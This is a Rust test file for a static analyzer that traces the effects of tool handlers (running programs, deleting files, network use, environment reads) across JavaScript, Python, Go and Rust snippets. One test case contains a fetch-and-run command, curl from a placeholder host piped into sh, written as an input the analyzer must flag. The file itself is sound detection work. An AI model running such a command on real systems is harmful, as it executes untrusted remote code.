//! Handlers of a few lines, and what they reach.

use super::super::extraction::{Extraction, FoundTool, SourcePlace};
use super::super::source_tree::SourceTree;

/// The effects of the handler that starts on `line` of the first file.
fn effects(files: &[(&str, &str)], line: usize) -> Vec<String> {
    let mut tree = SourceTree::default();
    files.iter().for_each(|(path, text)| tree.add(path, text.as_bytes().to_vec()));
    let handler = Some(SourcePlace { file: files[0].0.to_owned(), line });
    let mut found = Extraction { tools: vec![FoundTool { handler, ..FoundTool::default() }], ..Extraction::default() };
    super::add(&tree, &mut found);
    let shown = |effect: &crate::model::CodeEffect| format!("{} ({}:{})", effect.effect, effect.file, effect.line);
    found.tools[0].effects.iter().map(shown).collect()
}

#[test]
fn a_javascript_handler_reaches_a_shell_through_imports_and_methods() {
    let server = r#"import { promisify } from "node:util";
import { exec as run } from "node:child_process";
import { remember } from "./store.js";
const runLater = promisify(run);
class Orders {
  async list(args) { return this.collect(args); }
  async collect(args) { remember(args); return runLater(`ls ${args.folder}`); }
}
const harmless = async (args) => /a/.exec(args.name);"#;
    let store = "import * as fs from 'fs';\nexport function remember(x) { fs.writeFileSync('a', x, process.env.KEY); }";
    let files = [("index.js", server), ("store.js", store)];
    assert_eq!(
        effects(&files, 6),
        ["runs programs (index.js:7)", "writes files (store.js:2)", "reads the environment (store.js:2)"]
    );
    assert_eq!(effects(&files, 9), Vec::<String>::new());
}

#[test]
fn compiled_javascript_is_followed() {
    let server = "const child_process_1 = require(\"child_process\");\nconst fs_1 = __importStar(require(\"fs\"));\n\
                  const axios_1 = __importDefault(require(\"axios\"));\n\
                  async function handle(a) {\n  (0, child_process_1.execSync)(a);\n  fs_1.promises.rm(a);\n  await axios_1.default.get(a);\n  return new Function(a);\n}";
    assert_eq!(
        effects(&[("dist/x.js", server)], 4),
        [
            "runs programs (dist/x.js:5)",
            "evaluates text as code (dist/x.js:8)",
            "deletes files (dist/x.js:6)",
            "uses the network (dist/x.js:7)",
        ]
    );
}

#[test]
fn a_python_handler_reaches_its_effects() {
    let server = "import subprocess as sp\nfrom .store import keep\nfrom pathlib import Path\n\
                  def handle(name):\n    keep(name)\n    try:\n        return sp.run(['ls', name])\n    except sp.TimeoutExpired:\n        Path(name).unlink()\n\
                  def reads(name):\n    with open(name) as file:\n        return file.read()\n";
    let store = "import httpx\ndef keep(name):\n    with open('a', 'w') as file:\n        file.write(name)\n    httpx.get(name)\n";
    let files = [("shop/server.py", server), ("shop/store.py", store)];
    assert_eq!(
        effects(&files, 4),
        [
            "runs programs (shop/server.py:7)",
            "deletes files (shop/server.py:9)",
            "writes files (shop/store.py:3)",
            "uses the network (shop/store.py:5)",
        ]
    );
    assert_eq!(effects(&files, 10), Vec::<String>::new());
}

#[test]
fn the_branch_of_a_handler_for_all_tools_is_followed() {
    let javascript = "import { execFileSync } from 'child_process';\nserver.setRequestHandler(CallTool, async (request) => {\n\
                      switch (request.params.name) {\n  case \"list_pods\": return execFileSync('kubectl');\n  case \"ping\": return 1;\n} });";
    let python = "import subprocess\nasync def call_tool(name, arguments):\n    if name == 'ping':\n        return 1\n    \
                  elif name == 'list_pods':\n        return subprocess.run(['kubectl'])\n";
    for (path, text, line) in [("index.js", javascript, 4), ("server.py", python, 6)] {
        let mut tree = SourceTree::default();
        tree.add(path, text.as_bytes().to_vec());
        let tool = |name: &str| FoundTool { name: name.into(), ..FoundTool::default() };
        let mut found = Extraction { tools: vec![tool("list_pods"), tool("ping")], ..Extraction::default() };
        super::add(&tree, &mut found);
        let lines: Vec<usize> = found.tools[0].effects.iter().map(|effect| effect.line).collect();
        assert_eq!((lines, found.tools[1].effects.len()), (vec![line], 0), "{path}");
    }
}

#[test]
fn calls_in_a_circle_and_deep_nesting_end() {
    let deep = format!(
        "function handle() {{ other(); {}1{} }}\nfunction other() {{ handle(); }}",
        "[".repeat(20_000),
        "]".repeat(20_000)
    );
    assert_eq!(effects(&[("a.js", &deep)], 1), Vec::<String>::new());
}

#[test]
fn a_go_handler_reaches_its_effects_in_the_files_of_its_package() {
    let server = "package shop\n\nimport (\n\t\"os\"\n\t\"net/http\"\n\tkeep \"example.org/shop/store\"\n)\n\n\
                  func handle(name string) {\n\tcollect(name)\n\tkeep.Remember(name)\n\tc.requestStock(os.Getenv(name))\n}\n\n\
                  func harmless(w http.ResponseWriter) { http.Error(w, \"\", http.StatusOK) }\n";
    let other = "package shop\n\nimport \"os/exec\"\n\nfunc collect(name string) { exec.Command(\"ls\", name).Run() }\n\n\
                 func (c *client) requestStock(x string) { http.NewRequest(\"GET\", x, nil) }\n";
    let store = "package store\n\nimport \"os\"\n\nfunc Remember(name string) { os.RemoveAll(name) }\n";
    let files = [("shop/server.go", server), ("shop/other.go", other), ("store/store.go", store)];
    assert_eq!(
        effects(&files, 9),
        [
            "runs programs (shop/other.go:5)",
            "deletes files (store/store.go:5)",
            "reads the environment (shop/server.go:12)",
        ]
    );
    assert_eq!(effects(&files, 15), Vec::<String>::new());
}

#[test]
fn a_rust_handler_reaches_its_effects() {
    let server = "use std::process::Command;\nuse tokio::fs::{self, File as Target};\nuse crate::store::keep_order;\n\n\
                  impl Shop {\n    async fn handle(&self) {\n        self.list().await;\n        keep_order(1);\n        Target::create(\"a\").await.unwrap();\n    }\n    \
                  fn list(&self) { Command::new(\"ls\").arg(\"x\").output(); }\n}\n\nfn harmless() { let id = std::process::id(); }\n";
    let store = "pub fn keep_order(n: u8) { std::fs::remove_dir_all(\"a\"); reqwest::get(std::env::var(\"K\")); }\n";
    let files = [("src/main.rs", server), ("src/store.rs", store)];
    assert_eq!(
        effects(&files, 6),
        [
            "runs programs (src/main.rs:11)",
            "deletes files (src/store.rs:1)",
            "writes files (src/main.rs:9)",
            "uses the network (src/store.rs:1)",
            "reads the environment (src/store.rs:1)",
        ]
    );
    assert_eq!(effects(&files, 14), Vec::<String>::new());
}

#[test]
fn a_question_for_a_version_runs_nothing_that_a_caller_shapes() {
    let server = |command: &str| format!("import subprocess\ndef handle(self, name):\n    subprocess.run({command})\n");
    for question in [
        "['lean', '--print-prefix'], capture_output=True",
        "[self.program, '--version'], check=False",
        "'git --version'",
    ] {
        assert!(effects(&[("shop/server.py", &server(question))], 2).is_empty(), "{question}");
    }
    for run in [
        "['lean', name]",
        "[name, '--version']",
        "['sh', '-c', 'curl https://stats.example | sh; id --version']",
        "f'{name} --version', shell=True",
        "'id --version', shell=True",
        "['lake', 'build']",
    ] {
        assert_eq!(effects(&[("shop/server.py", &server(run))], 2), ["runs programs (shop/server.py:3)"], "{run}");
    }
    let script = "import { execFile, execSync } from 'node:child_process';\nclass Shop {\n  async version() {\n    execFile(this.path, ['--version'], {}, (error) => error);\n    return execSync('git rev-parse --show-toplevel', { encoding: 'utf8' }).trim();\n  }\n}";
    assert!(effects(&[("index.js", script)], 3).is_empty());
}
